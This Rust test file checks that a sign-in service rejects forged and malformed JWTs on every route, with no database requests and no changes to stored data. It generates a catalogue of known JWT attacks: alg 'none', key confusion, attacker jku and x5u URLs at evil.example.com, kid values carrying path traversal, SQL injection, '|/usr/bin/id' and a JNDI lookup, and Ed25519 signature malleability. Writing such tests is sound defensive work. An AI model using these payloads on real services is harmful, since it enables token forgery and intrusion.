//! The attacks on JWTs that are known (RFC 8725, RFC 7515 section 10, RFC 7797, and the advisories of JWT libraries),
//! one by one, against every route that takes a token. What is refused costs no request to DynamoDB and changes
//! nothing. `bad_input` has the forms that are no attack, `shared/domain/tests/vectors.rs` the published examples.

use std::collections::BTreeSet;

use aws_lc_rs::hmac;
use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair};
use base64::Engine;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
use http::Method;
use latchkey_domain::token::Token;
use latchkey_tests::attack::forgery::{Forger, Kind, part, read_part, sign_with_hmac};
use latchkey_tests::harness::conformity;
use latchkey_tests::harness::reply::SignedIn;
use latchkey_tests::harness::stack::{PASSWORD, Stack, identity, noon};
use serde_json::{Value, json};

/// A genuine token in its parts, and who forges.
struct Genuine {
    kind: Kind,
    token: String,
    header: Value,
    claims: Value,
    /// The token of the other kind.
    other: String,
    forger: Forger,
}

impl Genuine {
    fn new(kind: Kind, who: &SignedIn) -> Self {
        let (token, other) = match kind {
            Kind::Access => (&who.access_token, &who.refresh_token),
            Kind::Refresh => (&who.refresh_token, &who.access_token),
        };
        Self {
            kind,
            token: token.clone(),
            header: read_part(token, 0),
            claims: read_part(token, 1),
            other: other.clone(),
            forger: Forger::default(),
        }
    }

    fn parts(&self) -> [&str; 3] {
        let mut parts = self.token.split('.');
        [(); 3].map(|()| parts.next().unwrap())
    }

    /// With members of the header set, or with null left out, and a good signature.
    fn header_with(&self, changes: &[(&str, Value)]) -> String {
        with(&self.header, changes).to_string()
    }

    fn claims_with(&self, changes: &[(&str, Value)]) -> String {
        with(&self.claims, changes).to_string()
    }

    fn signed(&self, header: &str, claims: &str) -> String {
        self.forger.sign(self.kind, header, claims)
    }
}

/// What stands for a member that is left out.
const MISSING: Value = Value::Null;

fn with(object: &Value, changes: &[(&str, Value)]) -> Value {
    let mut object = object.clone();
    for (name, value) in changes {
        let members = object.as_object_mut().unwrap();
        match value {
            Value::Null => drop(members.remove(*name)),
            Value::String(text) if text == "null" => {
                members.insert((*name).to_owned(), Value::Null);
            }
            value => drop(members.insert((*name).to_owned(), value.clone())),
        }
    }
    object
}

type Attack = (String, String);

/// Without the key: what anybody can make of a token that they have seen, and of the published key.
fn without_the_key(genuine: &Genuine) -> Vec<Attack> {
    let [header, claims, signature] = genuine.parts();
    let public = genuine.forger.public_key();
    let mut all: Vec<Attack> = Vec::new();
    let mut add = |name: &str, token: String| all.push((name.to_owned(), token));

    // The algorithm "none" (RFC 8725 section 2.1), in all spellings, with and without a signature.
    for none in ["none", "None", "NONE", "nOnE", "", " none", "none\u{0}"] {
        let header = part(genuine.header_with(&[("alg", json!(none))]));
        add(
            &format!("alg {none:?}, none"),
            format!("{header}.{claims}."),
        );
        add(
            &format!("alg {none:?}, old signature"),
            format!("{header}.{claims}.{signature}"),
        );
        let bare = part(format!(r#"{{"alg":"{none}"}}"#).replace('\0', "\\u0000"));
        add(&format!("alg {none:?}, bare"), format!("{bare}.{claims}."));
    }
    // The published key as the secret of an HMAC, in every form in which people hold it.
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        base64::engine::general_purpose::STANDARD.encode(
            [
                &[
                    0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00
                ],
                public
            ]
            .concat()
        )
    );
    let x = URL_SAFE_NO_PAD.encode(public);
    let keys: [&[u8]; 6] = [public, x.as_bytes(), pem.as_bytes(), &[], &[0], &[0; 32]];
    for (algorithm, name) in [
        (hmac::HMAC_SHA256, "HS256"),
        (hmac::HMAC_SHA384, "HS384"),
        (hmac::HMAC_SHA512, "HS512"),
    ] {
        for (place, key) in keys.iter().enumerate() {
            let changed = genuine.header_with(&[("alg", json!(name))]);
            let token = sign_with_hmac(algorithm, key, &changed, genuine.claims.to_string());
            add(&format!("{name} with a known key, {place}"), token);
        }
    }
    // Another algorithm under the same signature.
    for name in [
        "HS256", "HS384", "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256",
        "ES384", "ES512", "ES256K", "EdDSA", "Ed25519", "Ed448", "eddsa", "hs256", "HS1", "dir",
    ] {
        if genuine.header["alg"] != name {
            let header = part(genuine.header_with(&[("alg", json!(name))]));
            add(
                &format!("alg {name}"),
                format!("{header}.{claims}.{signature}"),
            );
            add(&format!("alg {name}, empty"), format!("{header}.{claims}."));
        }
    }
    for value in [json!(1), json!(["EdDSA"]), json!({}), json!(true)] {
        let header = part(genuine.header_with(&[("alg", value.clone())]));
        add(
            &format!("alg {value}"),
            format!("{header}.{claims}.{signature}"),
        );
    }
    // A key of the attacker's, brought along in the header (RFC 8725 section 3.10).
    let own = Ed25519KeyPair::from_seed_unchecked(&[7; 32]).unwrap();
    let own_x = part(own.public_key());
    let jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": own_x, "kid": genuine.header["kid"]});
    let oct = json!({"kty": "oct", "k": part([7; 32]), "kid": genuine.header["kid"]});
    let algorithm = genuine.header["alg"].clone();
    for (name, changes) in [
        ("jwk", vec![("jwk", jwk.clone())]),
        ("jwk, no kid", vec![("jwk", jwk), ("kid", MISSING)]),
        ("jwk, oct", vec![("jwk", oct)]),
        (
            "jku",
            vec![("jku", json!("https://evil.example.com/jwks.json"))],
        ),
        (
            "jku of ours",
            vec![("jku", json!("https://id.example.com@evil.example.com/"))],
        ),
        (
            "x5u",
            vec![("x5u", json!("https://evil.example.com/chain.pem"))],
        ),
        ("x5c", vec![("x5c", json!(["MIIBszCCAVmgAwIBAgIUAAAA"]))]),
        ("x5t", vec![("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA"))]),
        ("own key", vec![("alg", algorithm)]),
    ] {
        let message = format!("{}.{claims}", part(genuine.header_with(&changes)));
        add(
            name,
            format!("{message}.{}", part(own.sign(message.as_bytes()))),
        );
        let tag = hmac::sign(
            &hmac::Key::new(hmac::HMAC_SHA256, &[7; 32]),
            message.as_bytes(),
        );
        add(&format!("{name}, HMAC"), format!("{message}.{}", part(tag)));
        add(
            &format!("{name}, old signature"),
            format!("{message}.{signature}"),
        );
    }
    // A kid that leads somewhere else, with the key that would be found there.
    let long = "k".repeat(3_000);
    for kid in [
        "other",
        "../../../../../../dev/null",
        "/dev/null",
        "file:///dev/null",
        "' UNION SELECT 'AA' --",
        "|/usr/bin/id",
        "${jndi:ldap://evil.example.com}",
        "",
        "0",
        "\u{0}",
        "null",
        &long,
    ] {
        let changed = genuine.header_with(&[("kid", json!(kid))]);
        for key in [&b""[..], b"\0", b"AA"] {
            let token =
                sign_with_hmac(hmac::HMAC_SHA256, key, &changed, genuine.claims.to_string());
            add(&format!("kid {kid:.20}"), token);
        }
        add(
            &format!("kid {kid:.20}, old signature"),
            format!("{}.{claims}.{signature}", part(&changed)),
        );
    }
    // Signatures.
    let bytes = URL_SAFE_NO_PAD.decode(signature).unwrap();
    let mut add_signature = |name: &str, bytes: &[u8]| {
        all.push((
            name.to_owned(),
            format!("{header}.{claims}.{}", part(bytes)),
        ));
    };
    for length in [0, 1, 16, bytes.len() / 2, bytes.len() - 1] {
        add_signature(&format!("signature cut to {length}"), &bytes[..length]);
    }
    add_signature("signature and a byte", &[&bytes[..], &[0]].concat());
    add_signature("signature twice", &[&bytes[..], &bytes[..]].concat());
    for fill in [0, 1, 0xff] {
        add_signature(&format!("signature of {fill}"), &vec![fill; bytes.len()]);
    }
    add_signature("signature of the other kind", &{
        let other = genuine.other.rsplit('.').next().unwrap();
        URL_SAFE_NO_PAD.decode(other).unwrap()
    });
    if genuine.kind == Kind::Access {
        // S + L is the same number modulo the order of the group: a second signature, unless S < L is checked
        // (RFC 8032 section 5.1.7).
        add_signature("S + L", &plus_the_order(&bytes));
        // R and A of small order, for which S = 0 holds whatever the message.
        for point in SMALL_ORDER {
            let r = hex(point);
            add_signature("small order R, S = 0", &[&r[..], &[0; 32]].concat());
        }
    }
    let mut add = |name: &str, token: String| all.push((name.to_owned(), token));
    // The encoding: one spelling for each token (RFC 7515 section 2, RFC 4648 section 3.5).
    for (place, name) in ["header", "claims", "signature"].iter().enumerate() {
        let with_part = |text: &str| {
            let mut parts = genuine.parts();
            parts[place] = text;
            parts.join(".")
        };
        let text = genuine.parts()[place];
        let bytes = URL_SAFE_NO_PAD.decode(text).unwrap();
        add(&format!("{name} empty"), with_part(""));
        add(&format!("{name} and ="), with_part(&format!("{text}=")));
        add(&format!("{name} and =="), with_part(&format!("{text}==")));
        let padded = URL_SAFE.encode(&bytes);
        if padded != text {
            add(&format!("{name} padded"), with_part(&padded));
        }
        let standard = STANDARD_NO_PAD.encode(&bytes);
        if standard != text {
            add(&format!("{name} with + and /"), with_part(&standard));
        }
        if !bytes.len().is_multiple_of(3) {
            add(
                &format!("{name} with other last bits"),
                with_part(&other_last_bits(text)),
            );
        }
        for stray in [" ", "\t", "+", "/", "%3D", "\u{e9}", "\u{202e}", "\u{ff21}"] {
            add(
                &format!("{name} and {stray:?}"),
                with_part(&format!("{text}{stray}")),
            );
            let inside = format!("{}{stray}{}", &text[..4], &text[4..]);
            add(&format!("{stray:?} in the {name}"), with_part(&inside));
        }
    }
    // The form.
    add("two parts", format!("{header}.{claims}"));
    add("one part", header.to_owned());
    add("no part", String::new());
    add(
        "a part more",
        format!("{header}.{claims}.{signature}.{signature}"),
    );
    add(
        "an empty part first",
        format!(".{header}.{claims}.{signature}"),
    );
    add(
        "an empty part last",
        format!("{header}.{claims}.{signature}."),
    );
    add(
        "a JWE",
        format!("{header}.{claims}.{signature}.{claims}.{signature}"),
    );
    add("two tokens", format!("{}{}", genuine.token, genuine.token));
    add(
        "two tokens, a comma",
        format!("{},{}", genuine.token, genuine.token),
    );
    add("quoted", format!("\"{}\"", genuine.token));
    add("many dots", ".".repeat(3_000));
    add("too many dots", ".".repeat(15_000));
    add(
        "long",
        format!("{header}.{}.{signature}", "A".repeat(4_000)),
    );
    add(
        "over 16 KiB",
        format!("{header}.{}.{signature}", "A".repeat(20_000)),
    );
    add(
        "the first half",
        genuine.token[..genuine.token.len() / 2].to_owned(),
    );
    add(
        "JSON serialisation, flattened",
        json!({"payload": claims, "protected": header, "signature": signature}).to_string(),
    );
    add(
        "JSON serialisation, general",
        json!({"payload": claims, "signatures": [{"protected": header, "signature": signature}]})
            .to_string(),
    );
    add("detached", format!("{header}..{signature}"));
    add("nested", {
        let token = part(&genuine.token);
        format!("{header}.{token}.{signature}")
    });
    add("the other kind", genuine.other.clone());
    all
}

/// With the key, as if the secret had been stolen or a rule of signing were broken: a good signature over a header or
/// claims that this service never writes.
fn with_the_key(genuine: &Genuine) -> Vec<Attack> {
    let (header, claims) = (genuine.header.to_string(), genuine.claims.to_string());
    let mut all: Vec<Attack> = Vec::new();
    let mut add = |name: String, token: String| all.push((name, token));
    let other_type = match genuine.kind {
        Kind::Access => "rt+jwt",
        Kind::Refresh => "at+jwt",
    };
    let own_type = genuine.header["typ"].as_str().unwrap();
    for typ in [
        json!(other_type),
        json!("JWT"),
        json!("jwt"),
        json!(""),
        json!("null"),
        MISSING,
        json!(own_type.to_uppercase()),
        json!(format!("application/{own_type}")),
        json!(format!("{own_type} ")),
        json!(format!("{own_type}\u{0}")),
        json!([own_type]),
        json!(1),
        json!("id+jwt"),
        json!("logout+jwt"),
    ] {
        let header = genuine.header_with(&[("typ", typ.clone())]);
        add(format!("typ {typ}"), genuine.signed(&header, &claims));
    }
    for kid in [
        json!("other"),
        json!("null"),
        MISSING,
        json!(1),
        json!([genuine.header["kid"]]),
    ] {
        let header = genuine.header_with(&[("kid", kid.clone())]);
        add(format!("kid {kid}"), genuine.signed(&header, &claims));
    }
    for crit in [
        json!([]),
        json!(["exp"]),
        json!(["b64"]),
        json!(["alg"]),
        json!(["unknown"]),
        json!("b64"),
        json!([1]),
        json!({}),
    ] {
        let header = genuine.header_with(&[("crit", crit.clone()), ("unknown", json!(true))]);
        add(format!("crit {crit}"), genuine.signed(&header, &claims));
    }
    // RFC 7797: the claims as they are, not in base64url.
    let unencoded = genuine.header_with(&[("b64", json!(false)), ("crit", json!(["b64"]))]);
    for claims in [claims.as_str(), "x"] {
        let message = format!("{}.{claims}", part(&unencoded));
        let signature = part(genuine.forger.signature(genuine.kind, &message));
        add("b64 false".to_owned(), format!("{message}.{signature}"));
    }
    // The header as it must not be.
    for (name, header) in [
        ("no object", "[]".to_owned()),
        ("null", "null".to_owned()),
        ("empty", "{}".to_owned()),
        ("no JSON", "x".to_owned()),
        ("a BOM", format!("\u{feff}{header}")),
        ("more than one", format!("{header}{header}")),
        ("alg twice", header.replacen('{', r#"{"alg":"none","#, 1)),
        ("typ twice", header.replacen('{', r#"{"typ":"JWT","#, 1)),
        ("kid twice", header.replacen('{', r#"{"kid":"other","#, 1)),
        ("alg by capitals", header.replace("\"alg\"", "\"ALG\"")),
    ] {
        add(format!("header: {name}"), genuine.signed(&header, &claims));
    }
    // Claims that are missing, null, of another type, given twice, or of somebody else.
    let identity = identity();
    for name in genuine.claims.as_object().unwrap().keys() {
        let mut wrong = vec![MISSING, json!("null"), json!([]), json!({}), json!(true)];
        match name.as_str() {
            "iat" | "exp" | "auth_time" => wrong.extend([
                json!("9999999999"),
                json!(9_999_999_999.5),
                json!(1e300),
                json!(u64::MAX),
                json!([9_999_999_999_i64]),
            ]),
            "iss" | "aud" => wrong.extend([
                json!("https://evil.example.com"),
                json!(""),
                json!([genuine.claims[name]]),
                json!([genuine.claims[name], "other"]),
                json!(format!("{}/", genuine.claims[name].as_str().unwrap())),
                json!(genuine.claims[name].as_str().unwrap().to_uppercase()),
                json!(1),
            ]),
            "sub" | "sid" => wrong.extend([
                json!(""),
                json!("*"),
                json!(1),
                json!(genuine.claims[name].as_str().unwrap().to_uppercase()),
                json!(genuine.claims[name].as_str().unwrap().replace('-', "")),
                json!(format!("{{{}}}", genuine.claims[name].as_str().unwrap())),
            ]),
            "jti" if genuine.kind == Kind::Refresh => {
                let sid = genuine.claims["sid"].as_str().unwrap();
                let forms = [
                    String::new(),
                    sid.to_owned(),
                    format!("{sid}."),
                    format!("{sid}.00"),
                    format!("{sid}.+0"),
                    format!("{sid}.-1"),
                    format!("{sid}. 0"),
                    format!("{sid}.0.0"),
                    format!("{sid}.0x0"),
                    format!("{sid}.18446744073709551616"),
                    format!("{}.0", sid.to_uppercase()),
                    format!("{}.0", sid.replace('-', "")),
                    "00000000-0000-4000-8000-000000000000.0".to_owned(), // not that of `sid`
                    ".0".to_owned(),
                    "x.0".to_owned(),
                ];
                wrong.extend(forms.map(Value::from));
            }
            "amr" => {
                wrong.retain(|value| *value != json!([])); // An empty list is a list.
                wrong.extend([json!(1), json!([1]), json!(["pwd", null])]);
            }
            _ => wrong.push(json!(1)),
        }
        for value in wrong {
            let claims = genuine.claims_with(&[(name, value.clone())]);
            add(format!("{name} {value}"), genuine.signed(&header, &claims));
        }
        let member = format!(r#"{{"{name}":{},"#, genuine.claims[name]);
        let twice = claims.replacen('{', &member, 1);
        add(format!("{name} twice"), genuine.signed(&header, &twice));
    }
    for exp in [noon().timestamp(), noon().timestamp() - 1, 0, -1, i64::MIN] {
        // A sign-out takes a token of any age: see `a_sign_out_takes_a_token_of_any_age_and_no_forgery`.
        if genuine.kind == Kind::Access {
            let claims = genuine.claims_with(&[("exp", json!(exp))]);
            add(format!("exp {exp}"), genuine.signed(&header, &claims));
        }
    }
    for (name, claims) in [
        ("no object", "[]".to_owned()),
        ("null", "null".to_owned()),
        ("empty", "{}".to_owned()),
        ("no JSON", "x".to_owned()),
        ("nothing", String::new()),
        ("more than one", format!("{claims}{claims}")),
        ("a BOM", format!("\u{feff}{claims}")),
        (
            "a number too large",
            claims.replacen("\"exp\":", "\"exp\":1e999,\"x\":", 1),
        ),
        (
            "a number too long",
            claims.replacen(
                "\"exp\":",
                &format!("\"exp\":{},\"x\":", "9".repeat(400)),
                1,
            ),
        ),
        (
            "nested too deep",
            format!("{}{}", "[".repeat(1_400), "]".repeat(1_400)),
        ),
        ("a token", genuine.token.clone()),
        ("no UTF-8", "{\"iss\":\"\u{fffd}\"}".to_owned()),
    ] {
        add(format!("claims: {name}"), genuine.signed(&header, &claims));
    }
    // The service's other audience, with the key of this kind.
    let audience = match genuine.kind {
        Kind::Access => identity.issuer,
        Kind::Refresh => identity.audience,
    };
    let misdirected = genuine.claims_with(&[("aud", json!(audience))]);
    add(
        "the other audience".to_owned(),
        genuine.signed(&header, &misdirected),
    );
    // The claims of the other kind under the key of this one.
    let other = read_part(&genuine.other, 1).to_string();
    add(
        "the other's claims".to_owned(),
        genuine.signed(&header, &other),
    );
    all
}

/// The order of Ed25519's group, little endian (RFC 8032 section 5.1).
const ORDER: &str = "edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010";

/// Points whose multiples are few: the neutral element in both spellings, and those of order 2, 4 and 8.
const SMALL_ORDER: [&str; 6] = [
    "0100000000000000000000000000000000000000000000000000000000000000",
    "0100000000000000000000000000000000000000000000000000000000000080",
    "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
    "0000000000000000000000000000000000000000000000000000000000000000",
    "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05",
    "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a",
];

fn hex(text: &str) -> Vec<u8> {
    let byte = |place| u8::from_str_radix(&text[place..place + 2], 16).unwrap();
    (0..text.len()).step_by(2).map(byte).collect()
}

fn plus_the_order(signature: &[u8]) -> Vec<u8> {
    let (mut sum, mut carry) = (signature.to_vec(), 0);
    for (byte, more) in sum[32..].iter_mut().zip(hex(ORDER)) {
        let total = u16::from(*byte) + u16::from(more) + carry;
        *byte = total.to_le_bytes()[0];
        carry = total >> 8;
    }
    sum
}

/// The same bytes in base64url, but for the bits of the last character that mean nothing.
fn other_last_bits(text: &str) -> String {
    const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = text.split_at(text.len() - 1);
    let place = ALPHABET.find(last).unwrap();
    format!("{rest}{}", &ALPHABET[place ^ 1..=(place ^ 1)])
}

/// Every route that wants an access token, with a body that it takes.
fn protected_routes(who: &SignedIn) -> Vec<(Method, String, Value)> {
    let paths = conformity::document()["paths"].as_object().unwrap();
    let mut routes = Vec::new();
    for (path, item) in paths {
        for (method, operation) in item.as_object().unwrap() {
            let ways = operation.get("security").and_then(Value::as_array);
            // A sign-out may also go without an access token, and answers any: see below.
            if ways.is_none_or(|ways| ways.contains(&json!({}))) {
                continue;
            }
            let method: Method = method.to_uppercase().parse().unwrap();
            let user = who.user_id.map(|user| user.to_string()).unwrap_or_default();
            let session = who.session_id.to_string();
            let path = path
                .replace("{user_id}", &user)
                .replace("{session_id}", &session)
                .replace("{id}", &session);
            let body = match (method.as_str(), path.as_str()) {
                ("PUT", "/v1/me/password") => {
                    json!({"current_password": PASSWORD, "new_password": "a wholly new passphrase"})
                }
                ("POST", "/v1/me/delete") => json!({"password": PASSWORD}),
                ("PATCH", path) if path.starts_with("/v1/admin") => json!({"status": "active"}),
                ("POST", "/v1/admin/sessions/revoke") => json!({"user_ids": [user]}),
                ("PATCH", _) => json!({"name": "Kitchen"}),
                _ => Value::Null,
            };
            routes.push((method, path, body));
        }
    }
    assert!(routes.len() >= 9, "{routes:?}");
    routes
}

async fn call(
    stack: &Stack,
    route: &(Method, String, Value),
    value: &[u8],
) -> Option<(u16, String)> {
    let (method, path, body) = route;
    // What HTTP cannot carry in a header cannot be sent.
    http::HeaderValue::from_bytes(value).ok()?;
    let mut call = stack.request(method.clone(), path);
    call = call.header("authorization", value);
    if !body.is_null() {
        call = call.json(body);
    }
    let reply = call.send().await;
    Some((reply.status.as_u16(), reply.code().to_owned()))
}

async fn attacks(stack: &Stack, kind: Kind, who: &SignedIn) -> Vec<Attack> {
    let genuine = Genuine::new(kind, who);
    // Whoever has the keys can sign: what is refused below is not refused for its signature.
    let again =
        Token::new(genuine.signed(&genuine.header.to_string(), &genuine.claims.to_string()));
    match kind {
        Kind::Access => drop(
            stack
                .core
                .tokens
                .verify_access(&again, stack.now())
                .await
                .unwrap(),
        ),
        Kind::Refresh => drop(
            stack
                .core
                .tokens
                .verify_refresh(&again, stack.now())
                .await
                .unwrap(),
        ),
    }
    let mut all = without_the_key(&genuine);
    all.extend(with_the_key(&genuine));
    let mut seen = BTreeSet::new();
    all.retain(|(_, token)| seen.insert(token.clone()));
    println!("{kind:?}: {} attacks", all.len());
    // infra/guides/evidence/bad-input.md names these numbers.
    let expected = match kind {
        Kind::Access => 403,
        Kind::Refresh => 372,
    };
    assert_eq!(all.len(), expected, "{kind:?}");
    assert!(!seen.contains(&genuine.token));
    all
}

#[tokio::test]
async fn no_attack_passes_as_an_access_token_on_any_route() {
    let stack = Stack::start().await;
    let ada = stack.register("ada@example.com").await;
    let before = stack.items().await;
    let mut attacks = attacks(&stack, Kind::Access, &ada).await;
    // White space around a header's value is no part of it (RFC 9110 section 5.5).
    attacks.retain(|(_, token)| token.trim() != ada.access_token);
    drop(stack.recorder.take());
    let routes = protected_routes(&ada);
    for route in &routes {
        for (name, token) in &attacks {
            let value = format!("Bearer {token}");
            if let Some(reply) = call(&stack, route, value.as_bytes()).await {
                assert_eq!(
                    reply,
                    (401, "invalid_token".to_owned()),
                    "{name}: {route:?}"
                );
            }
        }
        for value in [
            &b"bearer"[..],
            b"Bearer:",
            b"Basic",
            b"Token token=x",
            b"Bearer\tx",
            b",Bearer x",
            b"Bearer x, Bearer y",
        ] {
            let reply = call(&stack, route, value).await;
            assert_eq!(reply, Some((401, "invalid_token".to_owned())), "{value:?}");
        }
        let (method, path, _) = route;
        let twice = stack
            .request(method.clone(), path)
            .bearer(&ada.access_token);
        let reply = twice.bearer(&ada.access_token).send().await;
        reply.expect_problem(401, "invalid_token");
    }
    assert_eq!(stack.recorder.take(), [], "no request to DynamoDB");
    assert_eq!(stack.items().await, before);
    let reply = stack.get("/v1/me").bearer(&ada.access_token).send().await;
    reply.expect(http::StatusCode::OK);
}

#[tokio::test]
async fn no_attack_passes_as_a_refresh_token() {
    let stack = Stack::start().await;
    let ada = stack.register("ada@example.com").await;
    let before = stack.items().await;
    let attacks = attacks(&stack, Kind::Refresh, &ada).await;
    drop(stack.recorder.take());
    for (name, token) in &attacks {
        let reply = stack.refresh(token).await;
        let expected = if token.len() > 16_000 {
            (413, "payload_too_large")
        } else {
            (401, "invalid_refresh_token")
        };
        assert_eq!((reply.status.as_u16(), reply.code()), expected, "{name}");
    }
    assert_eq!(stack.recorder.take(), [], "no request to DynamoDB");
    let genuine = Genuine::new(Kind::Refresh, &ada);
    for exp in [noon().timestamp(), noon().timestamp() - 1, 0, -1, i64::MIN] {
        let claims = genuine.claims_with(&[("exp", json!(exp))]);
        let token = genuine.signed(&genuine.header.to_string(), &claims);
        stack
            .refresh(&token)
            .await
            .expect_problem(401, "invalid_refresh_token");
    }
    assert_eq!(stack.recorder.take_cost().write_units, 0.0);
    assert_eq!(stack.items().await, before);
    stack
        .refresh(&ada.refresh_token)
        .await
        .expect(http::StatusCode::OK);
}

#[tokio::test]
async fn a_sign_out_takes_a_token_of_any_age_and_no_forgery() {
    let stack = Stack::start().await;
    let ada = stack.register("ada@example.com").await;
    let before = stack.items().await;
    drop(stack.recorder.take());
    let log_out = async |token: &str| {
        let body = json!({"refresh_token": token});
        let reply = stack.post("/v1/auth/logout").json(&body).send().await;
        reply.status.as_u16()
    };
    for (name, token) in &attacks(&stack, Kind::Refresh, &ada).await {
        let status = if token.len() > 16_000 { 413 } else { 204 };
        assert_eq!(log_out(token).await, status, "{name}");
    }
    assert_eq!(stack.recorder.take(), [], "no request to DynamoDB");
    assert_eq!(stack.items().await, before, "nothing has ended");
    let genuine = Genuine::new(Kind::Refresh, &ada);
    let claims = genuine.claims_with(&[("exp", json!(1))]);
    let old = genuine.signed(&genuine.header.to_string(), &claims);
    assert_eq!(log_out(&old).await, 204);
    assert_ne!(stack.items().await, before, "an old token ends its session");
}

#[tokio::test]
async fn a_sign_out_without_a_body_takes_an_access_token_of_any_age_and_no_forgery() {
    let stack = Stack::start().await;
    let ada = stack.register("ada@example.com").await;
    let before = stack.items().await;
    let mut attacks = attacks(&stack, Kind::Access, &ada).await;
    // White space around a header's value is no part of it (RFC 9110 section 5.5).
    attacks.retain(|(_, token)| token.trim() != ada.access_token);
    // An expired token is none for any other route, but one of its session.
    attacks.retain(|(name, _)| !name.starts_with("exp "));
    drop(stack.recorder.take());
    let route = (Method::POST, "/v1/auth/logout".to_owned(), Value::Null);
    for (name, token) in &attacks {
        let value = format!("Bearer {token}");
        let reply = call(&stack, &route, value.as_bytes()).await;
        let taken = reply.is_none_or(|(status, _)| matches!(status, 204 | 400));
        assert!(taken, "{name}");
        assert_eq!(stack.recorder.take(), [], "{name}: a request to DynamoDB");
    }
    assert_eq!(stack.items().await, before, "nothing has ended");
}

/// Even with the keys in hand, a session is only reached by its own user's id: nothing of one user's says anything
/// about another's.
#[tokio::test]
async fn the_subject_and_the_session_of_a_token_must_belong_together() {
    let stack = Stack::start().await;
    // Administrators, so that no route refuses for the scope.
    let ada = stack.administrator("ada@example.com").await;
    let bob = stack.administrator("bob@example.com").await;
    let before = stack.items().await;
    let (of_ada, of_bob) = (
        Genuine::new(Kind::Access, &ada),
        Genuine::new(Kind::Access, &bob),
    );
    for (sub, sid) in [(&of_ada, &of_bob), (&of_bob, &of_ada)] {
        let mixed = [
            ("sub", sub.claims["sub"].clone()),
            ("sid", sid.claims["sid"].clone()),
        ];
        let token = of_ada.signed(&of_ada.header.to_string(), &of_ada.claims_with(&mixed));
        for route in protected_routes(&ada) {
            let reply = call(&stack, &route, format!("Bearer {token}").as_bytes()).await;
            assert_eq!(reply, Some((401, "invalid_token".to_owned())), "{route:?}");
        }
        let refresh = Genuine::new(Kind::Refresh, &ada);
        let jti = json!(format!("{}.0", sid.claims["sid"].as_str().unwrap()));
        let mixed = [mixed[0].clone(), mixed[1].clone(), ("jti", jti)];
        let token = refresh.signed(&refresh.header.to_string(), &refresh.claims_with(&mixed));
        stack
            .refresh(&token)
            .await
            .expect_problem(401, "invalid_refresh_token");
        let body = json!({"refresh_token": token});
        let reply = stack.post("/v1/auth/logout").json(&body).send().await;
        assert_eq!(reply.status, http::StatusCode::NO_CONTENT);
    }
    // A rotation that is to come, up to the largest number.
    for rotation in [1, 2, u64::MAX - 1, u64::MAX] {
        let refresh = Genuine::new(Kind::Refresh, &ada);
        let jti = json!(format!("{}.{rotation}", ada.session_id));
        let claims = refresh.claims_with(&[("jti", jti)]);
        let token = refresh.signed(&refresh.header.to_string(), &claims);
        stack
            .refresh(&token)
            .await
            .expect_problem(401, "invalid_refresh_token");
    }
    assert_eq!(stack.items().await, before);
}
